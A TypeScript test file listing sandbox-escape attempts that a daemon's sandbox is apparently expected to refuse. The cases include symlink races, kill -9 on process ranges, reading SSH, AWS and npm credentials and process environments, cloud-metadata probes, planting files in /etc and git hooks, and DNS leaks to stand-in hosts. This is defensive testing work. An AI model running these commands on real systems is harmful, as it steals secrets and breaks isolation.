import { join } from 'node:path'
import type { Sandbox } from '../../../daemon/sandbox/sandbox.ts'
import type { Ground } from './ground.ts'

/** One way out, by its number in the list of cases. */
export interface Attack {
  readonly id: string
  readonly what: string
  /** A shell line for inside, run in the workspace. */
  readonly line?: (ground: Ground) => string
  /** What goes through the daemon's own calls instead; says what it got. `reopen` opens the same layer anew. */
  readonly call?: (sandbox: Sandbox, ground: Ground, reopen: () => Promise<Sandbox>) => Promise<string>
  /**
   * The same done on the machine itself, to see that it would be noticed: its line where absent. In words why it is not
   * done there.
   */
  readonly outside?: ((ground: Ground) => string) | { readonly not: string }
}

const wouldHarm = { not: 'it would change the machine that the tests run on' }
const needsRoot = { not: 'outside it may be refused too, to an ordinary user' }
const outside = ({ folders }: Ground) => join(folders.top, 'outside')
const tcp = (host: string, port: number) => `timeout 5 bash -c 'exec 3<>/dev/tcp/${host}/${port}'`
const perl = (program: string) => `perl -MSocket -e '${program.replaceAll('\n', ' ')}'`
const says = (line: string) => (ground: Ground) => `${line} && echo ${ground.mark}`
/** A system call that must be refused; only its success says the mark. x86-64 and arm64 numbers. */
const call = (x64: number, arm64: number, args: string) => (ground: Ground) =>
  `perl -e 'syscall(${process.arch === 'x64' ? x64 : arm64}${args && `, ${args}`}) >= 0 and print "${ground.mark}"'`

const files: readonly Attack[] = [
  {
    id: 'C1',
    what: 'reading through a link',
    line: (ground) => `ln -sfn ${outside(ground)} away; cat away/file`,
  },
  {
    id: 'C1',
    what: 'writing, creating and removing through a link',
    line: ({ visible }) => `ln -sfn ${visible} away; echo ours > away/file; echo x > away/new; rm -rf away/*`,
  },
  {
    id: 'C1',
    what: 'the daemon’s calls on a link',
    outside: (ground) => `cat ${outside(ground)}/file; echo x > ${ground.visible}/file`,
    async call(sandbox, ground) {
      const at = (name: string) => join(sandbox.root, name)
      await sandbox.makeSymlink(at('away'), outside(ground))
      await sandbox.makeSymlink(at('seen'), ground.visible)
      const read = await sandbox.readFile(at('away/file'))
      const listed = await sandbox.list(at('away'))
      for (const link of ['away', 'seen']) {
        await sandbox.writeFile(at(`${link}/file`), Buffer.from('ours'))
        await sandbox.writeFile(at(`${link}/new`), Buffer.from('ours'))
        await sandbox.setMode(at(`${link}/file`), 0o777)
        await sandbox.remove(at(`${link}/file`))
        await sandbox.remove(at(`${link}/`))
      }
      return `${read.type === 'read' ? Buffer.from(read.bytes) : ''} ${JSON.stringify(listed)}`
    },
  },
  {
    id: 'C2',
    what: 'a new file through a linked parent and a dangling link',
    line: ({ visible }) => `ln -sfn ${visible} p; echo x > p/made; ln -sfn ${visible}/dangling d; echo x > d`,
  },
  {
    id: 'C2',
    what: 'a link swapped while the daemon writes',
    outside: ({ visible }) => `echo ours > ${visible}/file`,
    async call(sandbox, { visible }) {
      const racing = new AbortController()
      const line = `mkdir -p real; while :; do ln -sfn ${visible} swap; ln -sfn real swap; done`
      const race = sandbox.exec({ line }, { signal: racing.signal })
      for (let round = 0; round < 150; round++) {
        await sandbox.writeFile(join(sandbox.root, 'swap/file'), Buffer.from('ours'))
        await sandbox.remove(join(sandbox.root, 'swap/file'))
      }
      racing.abort()
      await race
      return ''
    },
  },
  {
    id: 'C3',
    what: 'a hard link to a file outside',
    line: (ground) => `ln ${ground.visible}/file h && echo ours > h; ln ${outside(ground)}/file i && cat i`,
  },
  {
    id: 'C3',
    what: 'pipes, devices and endless files in the daemon’s way',
    outside: { not: 'there is nothing to be noticed but that the call returns' },
    async call(sandbox, { mark }) {
      await sandbox.exec({
        line: 'mkfifo pipe; truncate -s 8T sparse; ln -s /dev/zero zero; ln -s /proc/self/fd/0 self',
      })
      const reads = ['pipe', 'zero', 'self', 'sparse'].map((name) => {
        return sandbox.readFile(join(sandbox.root, name), { maxBytes: 1000 })
      })
      const [pipe, zero, self, sparse] = await Promise.all(reads)
      // Not every kind's kernel tells holes: attacks to come would read it whole.
      await sandbox.exec({ line: 'rm pipe sparse zero self' })
      const bounded = sparse?.type === 'read' && sparse.bytes.byteLength === 1000
      return [pipe, zero, self].every((read) => read?.type === 'fault') && bounded ? '' : mark
    },
  },
  {
    id: 'C4',
    what: 'links left in the home for the next opening',
    outside: ({ visible }) => `mkdir ${visible}/made`,
    async call(sandbox, { visible }, reopen) {
      const names = '.cargo .nvm .local .pyenv .ssh .config .bashrc'
      await sandbox.exec({ line: `cd; for n in ${names}; do rm -rf $n; ln -s ${visible} $n; done` })
      await sandbox.exec({ line: `cd; mv projects p2; ln -s ${visible} projects; ln -s ${visible} .paddock` })
      await (await reopen()).exec({ line: 'true' })
      return ''
    },
  },
]

const machine: readonly Attack[] = [
  {
    id: 'E1',
    what: 'a Unix socket by its path',
    line: ({ unixSocket }) => perl(`socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, pack_sockaddr_un("${unixSocket}"))`),
  },
  {
    id: 'E1',
    what: 'an abstract socket',
    line: ({ abstractSocket }) =>
      perl(`socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, pack("S a*", 1, "\\0${abstractSocket}"))`),
  },
  {
    id: 'E1',
    what: 'sockets of services: Docker, D-Bus, agents, displays, editors',
    line: says(
      'find / -xdev -type s 2>/dev/null | grep .; find /run /tmp /var/run /dev/shm -type s 2>/dev/null | grep .',
    ),
    outside: needsRoot,
  },
  { id: 'E1', what: 'ending a process outside', line: ({ pid }) => `kill -9 ${pid}` },
  {
    id: 'E1',
    what: 'every process there is',
    line: ({ pid }) => `kill -9 $(seq ${pid - 50} ${pid + 50}) 2> /dev/null`,
    outside: wouldHarm,
  },
  {
    id: 'E1',
    what: 'the environment of a process outside',
    line: ({ pid }) => `tr '\\0' '\\n' < /proc/${pid}/environ`,
  },
  {
    id: 'E1',
    what: 'the machine’s root through process 1 and through a parent',
    line: (ground) =>
      `for p in 1 self $PPID; do cat /proc/$p/root/${outside(ground)}/file /proc/$p/cwd/../../file; done`,
  },
  {
    id: 'E1',
    what: 'descriptors that were handed on',
    line: (ground) =>
      perl(`for (3 .. 200) { open(my $f, "<&=", $_) or next; sysread $f, my $x, 1e5 and print $x }
        opendir D, "/proc/self/fd/$_/.." and print "${ground.mark}" for grep { -d "/proc/self/fd/$_" } 3 .. 200`),
    outside: { not: 'a shell of the tests’ own hands nothing on' },
  },
  { id: 'E1', what: 'a user namespace', line: says('unshare -U true'), outside: needsRoot },
  { id: 'E1', what: 'a mount', line: says('mount -t tmpfs none /mnt'), outside: wouldHarm },
  { id: 'E1', what: 'taking away a mount', line: says('umount -l /tmp'), outside: wouldHarm },
  { id: 'E1', what: 'another process’s namespaces', line: says('nsenter -t 1 -m -p true'), outside: needsRoot },
  { id: 'E1', what: 'ptrace', line: call(101, 117, '0, 0, 0, 0') },
  {
    id: 'E1',
    what: 'io_uring',
    line: (ground) => call(425, 425, '1, my $p = "\\0" x 120')(ground),
    outside: needsRoot,
  },
  { id: 'E1', what: 'the kernel’s keyring', line: call(250, 219, '0, -3, 1'), outside: needsRoot },
  {
    id: 'E1',
    what: 'loading a program into the kernel',
    line: call(321, 280, '0, my $b = pack("L4 x112", 2, 4, 4, 1), 128'),
    outside: needsRoot,
  },
  {
    id: 'E1',
    what: 'watching the processor',
    line: call(298, 241, 'my $e = pack("L2 x120", 1, 128), 0, -1, -1, 0'),
    outside: needsRoot,
  },
  { id: 'E1', what: 'typing into a terminal', line: call(16, 29, '0, 0x5412, my $c = "x"'), outside: needsRoot },
  {
    id: 'E1',
    what: 'the machine’s devices',
    line: says('(: < /dev/kvm || : < /dev/mem || : < /dev/vda || : < /dev/sda || : < /dev/fuse) 2>/dev/null'),
    outside: needsRoot,
  },
  { id: 'E1', what: 'a device of its own', line: says('mknod disk b 254 0'), outside: wouldHarm },
  {
    id: 'E1',
    what: 'what runs when a program crashes',
    line: says(': >> /proc/sys/kernel/core_pattern'),
    outside: needsRoot,
  },
  {
    id: 'E1',
    what: 'what runs for a kind of program',
    line: says('find / -name binfmt_misc -writable 2>/dev/null | grep . || : >> /proc/sys/fs/binfmt_misc/register'),
    outside: needsRoot,
  },
  {
    id: 'E1',
    what: 'what runs when a control group empties',
    line: says('find /sys/fs/cgroup -name release_agent -writable 2>/dev/null | grep . '),
    outside: needsRoot,
  },
  {
    id: 'E1',
    what: 'making a control group',
    line: says(
      'for d in $(find /sys/fs/cgroup -maxdepth 2 -type d 2>/dev/null); do mkdir $d/escape && break; done && ls -d /sys/fs/cgroup/escape /sys/fs/cgroup/*/escape 2>/dev/null | grep .',
    ),
    outside: wouldHarm,
  },
  {
    id: 'E1',
    what: 'settings of the kernel',
    line: says('find /proc/sys /sys -type f -writable 2>/dev/null | grep .'),
    outside: needsRoot,
  },
  {
    id: 'E1',
    what: 'the kernel’s memory and log',
    line: says('(head -c 1 /proc/kcore || head -c 1 /dev/kmsg) 2>/dev/null | wc -c | grep -q [1-9]'),
    outside: needsRoot,
  },
  {
    id: 'E1',
    what: 'programs that run as somebody else',
    line: says("grep -q 'NoNewPrivs:.0' /proc/self/status"),
    outside: needsRoot,
  },
  {
    id: 'E2',
    what: 'the daemon’s folder, and what finds it',
    line: ({ folders, secret }) =>
      `cat ${folders.data}/token; find / -name token -size -2 -exec cat {} + 2>/dev/null; grep -rs ${secret.slice(0, 0)}SECRET ${folders.top}`,
    outside: ({ folders }) => `cat ${folders.data}/token`,
  },
  { id: 'E2', what: 'a port of the machine’s loopback', line: ({ port }) => tcp('127.0.0.1', port) },
  {
    id: 'E5',
    what: 'planting what others run',
    line: ({ visible, folders }) =>
      `for d in ${visible} ${folders.top} ${folders.userHome} /etc /usr/local/bin /usr/lib /opt /var /boot; do
        echo x > $d/planted-by-paddock-test && echo x > $d/file; done; echo x >> ~/.bashrc; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit`,
    outside: ({ visible }) => `echo x > ${visible}/planted`,
  },
  {
    id: 'E5',
    what: 'a mount that can be written and is not its own',
    line: (ground) => `awk '$6 ~ /^rw/ { print $5 }' /proc/self/mountinfo | while read -r at; do
      case $at in ${ground.folders.userHome}*|/tmp|/var/tmp|/run|/dev/shm|/proc|/dev/pts|/dev/mqueue|/dev/[a-z]*${ground.own.map((at) => `|${at}`).join('')}) ;;
      *) [ -w "$at" ] && [ ! -c "$at" ] && [ "$(readlink -f .)" != "$at" ] && echo "$at ${ground.mark}";; esac; done`,
    outside: needsRoot,
  },
  {
    id: 'E6',
    what: 'the environment, of every process',
    line: () => `env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'`,
    outside: ({ pid }) => `tr '\\0' '\\n' < /proc/${pid}/environ`,
  },
  {
    id: 'E6',
    what: 'keys, histories and cookies of the home',
    line: ({ folders }) =>
      `cat ~/.ssh/* ~/.aws/* ~/.npmrc ~/.netrc ~/.docker/* ~/.config/gh/* ~/.bash_history; grep -rhs . ${folders.userHome}`,
    outside: ({ folders }) => `cat ${folders.userHome}/.ssh/*`,
  },
  {
    id: 'E6',
    what: 'the cloud’s metadata',
    line: says(tcp('169.254.169.254', 80)),
    outside: { not: 'nothing of a test leaves the machine' },
  },
  {
    id: 'E8',
    what: 'what is hidden, moved, linked and bound',
    line: ({
      folders,
    }) => `mv ${folders.data} here; mv ${folders.top} there; cp -al ${folders.data} linked; cat here/token there/user/.npmrc linked/token
      ln -s ${folders.data}/ l; cat l/token ${folders.data}//./token ${folders.data}/../paddock/token`,
    outside: ({ folders }) => `cat ${folders.data}//./token`,
  },
]

const network: readonly Attack[] = [
  ...['127.0.0.1', 'localhost', 'localhost.', '2130706433', '0177.0.0.1', '0x7f000001', '127.1', '0.0.0.0'].map(
    (host) => ({
      id: 'F1',
      what: `TCP to ${host}`,
      line: ({ port }: Ground) => tcp(host, port),
      ...(host.startsWith('localhost') ? { outside: ({ port }: Ground) => tcp('127.0.0.1', port) } : {}),
    }),
  ),
  { id: 'F1', what: 'TCP to the machine’s own address', line: ({ address, port }) => tcp(address, port) },
  {
    id: 'F1',
    what: 'TCP to [::1]',
    line: ({ port6 }) => tcp('::1', port6),
    outside: { not: 'a machine may have no IPv6' },
  },
  {
    id: 'F1',
    what: 'TCP to an IPv4 address inside IPv6',
    line: ({ port }) => tcp('::ffff:127.0.0.1', port),
    outside: { not: 'a machine may have no IPv6' },
  },
  { id: 'F1', what: 'UDP', line: ({ udpPort }) => `echo hi > /dev/udp/127.0.0.1/${udpPort}` },
  {
    id: 'F1',
    what: 'UDP to the machine’s own address',
    line: ({ address, udpPort }) => `echo hi > /dev/udp/${address}/${udpPort}`,
  },
  {
    id: 'F1',
    what: 'a question to a name server',
    line: ({ udpPort, address }) =>
      perl(
        `socket(S, AF_INET, SOCK_DGRAM, 17); send(S, "\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4leak\\4evil\\0\\0\\20\\0\\1", 0, pack_sockaddr_in(${udpPort}, inet_aton("${address}")))`,
      ),
  },
  {
    id: 'F1',
    what: 'names',
    line: says('getent hosts leaked-data.example.com'),
    outside: { not: 'nothing of a test leaves the machine' },
  },
  {
    id: 'F1',
    what: 'ICMP',
    line: (ground) =>
      perl(
        `(socket(S, AF_INET, SOCK_RAW, 1) || socket(S, AF_INET, SOCK_DGRAM, 1)) && send(S, pack("C2 n3 a8", 8, 0, 0, 0, 0, "leak"), 0, pack_sockaddr_in(0, inet_aton("${ground.address}"))) and print "${ground.mark}"`,
      ),
    outside: needsRoot,
  },
  { id: 'F1', what: 'packets of one’s own', line: call(41, 198, '17, 3, 768'), outside: needsRoot },
  { id: 'F1', what: 'the machine’s other side (vsock)', line: call(41, 198, '40, 1, 0'), outside: needsRoot },
  {
    id: 'F1',
    what: 'another network device',
    line: says(`tail -n +3 /proc/net/dev | grep -v '^ *lo:'`),
    outside: { not: 'a machine may have none' },
  },
  { id: 'F1', what: 'setting up a device', line: says('ip link add escape type dummy'), outside: wouldHarm },
  {
    id: 'F1',
    what: 'a proxy’s Unix socket',
    line: ({ unixSocket }) =>
      perl(`socket(S, AF_UNIX, SOCK_STREAM, 0) && connect(S, pack_sockaddr_un("${unixSocket}"))`),
  },
]

export const attacks: readonly Attack[] = [...files, ...machine, ...network]
